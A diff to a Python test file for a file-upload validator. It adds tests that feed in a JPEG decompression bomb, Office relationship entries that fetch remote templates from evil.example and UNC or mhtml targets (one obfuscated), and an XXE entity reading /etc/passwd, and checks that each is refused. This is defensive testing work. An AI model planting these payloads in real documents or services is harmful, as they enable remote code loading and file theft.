@@ -30,6 +30,7 @@ HEADS = st.sampled_from(
     ]
 )
 NAMES = st.sampled_from(["a.jpg", "a.csv", "a.docx"])
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 HTML = b"<!doctype html><script>alert(1)</script>"
 
 
@@ -121,6 +122,24 @@ class TestPhotos:
         with pytest.raises(kinds.TooManyPixels, match="尺寸太大"):
             check(upload(samples.png_header(*size), "a.png"))
 
+    def test_a_jpeg_that_passes_over_itself_for_minutes_is_refused(self) -> None:
+        progressive = samples.photo(progressive=True)
+        assert check(upload(progressive, "a.jpg")).kind == Kind.PHOTO
+        last = progressive[progressive.rindex(b"\xff\xda") : -2]
+        bomb = progressive[:-2] + last * 500 + progressive[-2:]
+        with pytest.raises(kinds.Damaged, match="打不开"):
+            check(upload(bomb, "a.jpg"))
+
+    def test_small_pictures_in_the_notes_of_a_photo_are_no_passes(self) -> None:
+        notes = b"\xff\xda\x00\x02" * 100
+        assert check(upload(samples.photo(comment=notes), "a.jpg")).kind == Kind.PHOTO
+
+    def test_a_jpeg_that_needs_all_its_pixels_may_have_fewer(self) -> None:
+        large = samples.picture(5000, 4100)
+        assert check(upload(samples.photo(large), "a.jpg")).kind == Kind.PHOTO
+        with pytest.raises(kinds.TooManyPixels, match="尺寸太大"):
+            check(upload(samples.photo(large, progressive=True), "a.jpg"))
+
     @pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
     def test_one_that_broke_off_is_refused(self, kind: str) -> None:
         photo = samples.photo(kind=kind)
@@ -187,6 +206,43 @@ class TestDocuments:
         for file in (samples.word_file(), samples.excel_file()):
             with pytest.raises(kinds.HasMacros, match="宏"):
                 check(upload(samples.with_part(file, part, b"Sub AutoOpen()"), "a.xlsx"))
+
+    @pytest.mark.parametrize(
+        ("kind", "target", "refused"),
+        [
+            ("attachedTemplate", "https://evil.example/t.dotm", True),
+            ("attachedTemplate", "\\\\10.0.0.9\\share\\t.dotm", True),
+            ("attachedTemplate", "file://evil.example/t.dotm", True),
+            ("attachedTemplate", "//evil.example/t.dotm", True),
+            ("attachedTemplate", " HTTP:&#47;/evil.example/t", True),
+            ("oleObject", "mhtml:http://evil.example/x", True),
+            ("frame", "http://evil.example/", True),
+            ("attachedTemplate", "file:///C:\\Users\\wang\\红头.dotx", False),
+            ("attachedTemplate", "Normal.dotm", False),
+            ("hyperlink", "https://www.example.gov.cn/notice", False),
+        ],
+    )
+    def test_what_brings_a_program_from_elsewhere(
+        self, kind: str, target: str, refused: bool
+    ) -> None:
+        relations = (
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            f'<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="{target}"'
+            ' TargetMode="External"/></Relationships>'
+        )
+        part = "word/_rels/settings.xml.rels"
+        for charset in ("utf-8", "utf-16"):
+            file = samples.with_part(samples.word_file(), part, relations.encode(charset))
+            if refused:
+                with pytest.raises(kinds.FetchesProgram, match="从网上取"):
+                    check(upload(file, "答复.docx"))
+            else:
+                assert check(upload(file, "答复.docx")).kind == Kind.WORD
+
+    def test_entities_in_a_document_are_not_followed(self) -> None:
+        bomb = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
+        file = samples.with_part(samples.word_file(), "word/_rels/x.rels", bomb)
+        assert check(upload(file, "答复.docx")).kind == Kind.WORD
 
     def test_a_macro_workbook_under_a_plain_name(self) -> None:
         content = io.BytesIO()
